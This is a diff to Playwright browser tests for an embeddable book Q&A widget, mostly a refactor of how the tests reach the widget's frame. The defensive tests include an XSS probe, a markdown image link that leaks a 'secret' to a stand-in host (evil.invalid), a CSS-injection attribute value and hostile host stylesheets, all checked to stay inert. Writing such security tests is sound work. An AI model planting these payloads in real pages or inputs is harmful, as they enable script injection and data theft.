@@ -15,7 +15,7 @@ from tests.ui.scripted import FIGURES
 from ui.asset_files import asset
 
 if TYPE_CHECKING:
-    from playwright.sync_api import FrameLocator, Page
+    from playwright.sync_api import Frame, Page
 
 pytestmark = pytest.mark.browser
 
@@ -24,7 +24,6 @@ _HOSTILE = (
     "* { letter-spacing: 9px !important; font-size: 40px !important; display: block; "
     "transform: rotate(9deg); color: lime !important } button, iframe { opacity: .1 !important }"
 )
-_BUTTON = (640, 460)  # the lower right corner of the small window, over the widget's button
 
 
 def visit(
@@ -43,15 +42,16 @@ def visit(
     return page
 
 
-def frame(page: Page, service: Service) -> FrameLocator:
-    """Give the inside of the widget: its frame stands in a closed root, so by its page."""
-    page.wait_for_function("() => window.length === 1")
-    return page.frames[1]  # type: ignore[return-value]
+def frame(page: Page) -> Frame:
+    """Give the inside of the widget: a closed root hides its frame from locators."""
+    if len(page.frames) < 2:
+        page.wait_for_event("frameattached")
+    return page.frames[1]
 
 
-def ask(page: Page, service: Service, question: str) -> FrameLocator:
+def ask(page: Page, question: str) -> Frame:
     """Ask in the widget and wait for the whole answer."""
-    inside = frame(page, service)
+    inside = frame(page)
     inside.locator("#question").fill(question)
     inside.locator("#question").press("Enter")
     expect(inside.locator("form button")).to_be_enabled()
@@ -69,9 +69,9 @@ def test_it_answers_on_a_foreign_site_and_shows_quote_and_source(
     new_page: NewPage, portal: Portal, service: Service, book: Book
 ) -> None:
     page = visit(new_page(), portal, service)
-    assert page.evaluate("() => window.length") == 0  # no frame before it is opened
+    assert len(page.frames) == 1  # no frame before it is opened
     press_button(page)
-    inside = ask(page, service, "多少 CEO 担心数据的来源？")
+    inside = ask(page, "多少 CEO 担心数据的来源？")
     expect(inside.locator(".answer")).to_contain_text("61%")
     inside.locator(".chip").click()
     mark = inside.locator("#panel mark")
@@ -85,10 +85,10 @@ def test_it_answers_on_a_foreign_site_and_shows_quote_and_source(
 def test_it_works_under_a_strict_policy_of_the_host(
     new_page: NewPage, portal: Portal, service: Service
 ) -> None:
-    strict = "default-src 'none'; script-src {guide}; frame-src {guide}; style-src 'self'"
+    strict = "default-src 'none'; script-src {guide}; frame-src {guide}"
     page = visit(new_page(), portal, service, policy=strict)
     press_button(page)
-    expect(ask(page, service, "多少？").locator(".answer")).to_contain_text("61%")
+    expect(ask(page, "多少？").locator(".answer")).to_contain_text("61%")
 
 
 def test_a_site_not_listed_is_told_so(
@@ -97,11 +97,12 @@ def test_a_site_not_listed_is_told_so(
     watch.provoked = ["frame-ancestors", "violates the following"]
     page = visit(new_page(), portal, service, site="evil.test")
     page.evaluate(
-        "() => { window.refused = new Promise(r => addEventListener('guide:refused', () => r(1))); }"
+        "() => { window.refused = new Promise(r => addEventListener('guide:refused', () => r(1))) }"
     )
     press_button(page)
     assert page.evaluate("() => window.refused") == 1
-    assert page.evaluate("() => window.length") == 0
+    if len(page.frames) > 1:
+        page.wait_for_event("framedetached")  # the blank frame gives way to a sentence
 
 
 def test_escape_closes_from_inside_and_gives_the_focus_back(
@@ -110,7 +111,7 @@ def test_escape_closes_from_inside_and_gives_the_focus_back(
     page = visit(new_page(), portal, service)
     page.evaluate("() => addEventListener('guide:close', () => { window.closed_ = true; })")
     press_button(page)
-    inside = frame(page, service)
+    inside = frame(page)
     expect(inside.locator("#question")).to_be_focused()
     page.keyboard.press("Escape")
     page.wait_for_function("() => window.closed_")
@@ -125,7 +126,7 @@ def test_escape_in_the_quote_closes_the_quote_alone(
 ) -> None:
     page = visit(new_page(), portal, service)
     press_button(page)
-    inside = ask(page, service, "多少？")
+    inside = ask(page, "多少？")
     inside.locator(".chip").click()
     expect(inside.locator("#panel .panel-title")).to_be_focused()
     page.keyboard.press("Escape")
@@ -139,7 +140,7 @@ def test_no_style_leaks_in_or_out(new_page: NewPage, portal: Portal, service: Se
     for style in ("", f"<style>{_HOSTILE}</style>"):
         page = new_page(viewport={"width": 700, "height": 500})
         visit(page, portal, service, style=style, attributes="data-open")
-        inside = frame(page, service)
+        inside = frame(page)
         inside.locator("#question").wait_for()
         page.wait_for_function("() => innerWidth > 0")
         shown = page.evaluate("() => getComputedStyle(document.querySelector('h1')).fontSize")
@@ -157,9 +158,12 @@ def test_scripts_of_the_host_can_drive_it(
 ) -> None:
     page = visit(new_page(), portal, service)
     page.evaluate(
-        """() => { window.heard = [];
-        for (const name of ["ready", "open", "close", "answer"])
-            addEventListener("guide:" + name, (e) => window.heard.push([name, e.detail?.answered])); }"""
+        """() => {
+            window.heard = [];
+            for (const name of ["ready", "open", "close", "answer"])
+                addEventListener(`guide:${name}`, (event) =>
+                    window.heard.push([name, event.detail?.answered]));
+        }"""
     )
     page.evaluate("() => GuideWidget.ask('多少？')")
     page.wait_for_function("() => window.heard.some(([name]) => name === 'answer')")
@@ -174,15 +178,15 @@ def test_messages_of_others_are_not_heard(
     new_page: NewPage, portal: Portal, service: Service
 ) -> None:
     page = visit(new_page(), portal, service, attributes="data-open")
-    frame(page, service).locator("#question").wait_for()
+    frame(page).locator("#question").wait_for()
     page.evaluate("() => postMessage({ guide: 'close' }, '*')")
     page.evaluate("() => new Promise(requestAnimationFrame)")
-    expect(frame(page, service).locator("#question")).to_be_visible()
+    expect(frame(page).locator("#question")).to_be_visible()
 
 
 def test_markup_stays_text(new_page: NewPage, portal: Portal, service: Service) -> None:
     page = visit(new_page(), portal, service, attributes='data-open data-title="<b>x</b>"')
-    inside = ask(page, service, "探针 <img src=x onerror=alert(1)>")
+    inside = ask(page, "探针 <img src=x onerror=alert(1)>")
     expect(inside.locator(".asked")).to_have_text("探针 <img src=x onerror=alert(1)>")
     expect(inside.locator(".answer")).to_contain_text("![p](https://evil.invalid/?q=secret)")
     expect(inside.locator("h1").first).to_have_text("<b>x</b>")
@@ -193,7 +197,7 @@ def test_a_refusal_and_a_growing_answer(
     new_page: NewPage, portal: Portal, service: Service
 ) -> None:
     page = visit(new_page(), portal, service, attributes="data-open")
-    inside = ask(page, service, "明天天气怎么样？")
+    inside = ask(page, "明天天气怎么样？")
     expect(inside.locator(".answer.refusal")).to_contain_text("本书没有谈到这个问题")
     go = service.data_dir / "go"
     inside.locator("#question").fill("慢慢说")
@@ -211,7 +215,7 @@ def test_a_refusal_and_a_growing_answer(
 def test_it_fills_a_phone(new_page: NewPage, portal: Portal, service: Service) -> None:
     page = new_page(viewport={"width": 390, "height": 780})
     visit(page, portal, service, attributes="data-open")
-    inside = frame(page, service)
+    inside = frame(page)
     inside.locator("#question").wait_for()
     assert inside.locator("body").evaluate("() => [innerWidth, innerHeight]") == [390, 780]
     inside.locator("#close").click()
@@ -221,9 +225,7 @@ def test_it_fills_a_phone(new_page: NewPage, portal: Portal, service: Service) -
 def test_themes_and_odd_attributes(new_page: NewPage, portal: Portal, service: Service) -> None:
     odd = 'data-open data-theme="dark" data-color="red;}*{x" data-position="up"'
     page = visit(new_page(), portal, service, attributes=odd)
-    paper = (
-        frame(page, service).locator("body").evaluate("n => getComputedStyle(n).backgroundColor")
-    )
+    paper = frame(page).locator("body").evaluate("n => getComputedStyle(n).backgroundColor")
     assert max(map(int, re.findall(r"\d+", paper))) < 40
 
 
@@ -233,7 +235,7 @@ def test_the_demo_shows_it_and_the_line(new_page: NewPage, service: Service) -> 
     expect(page.locator("pre")).to_contain_text(f'<script src="{service.url}/widget.js"')
     page.wait_for_function("() => Boolean(window.GuideWidget)")
     page.evaluate("() => GuideWidget.open()")
-    expect(frame(page, service).locator("#greeting")).to_contain_text("您好")
+    expect(frame(page).locator("#greeting")).to_contain_text("您好")
 
 
 def test_loader_and_embed_page_stay_under_ten_kilobytes() -> None:
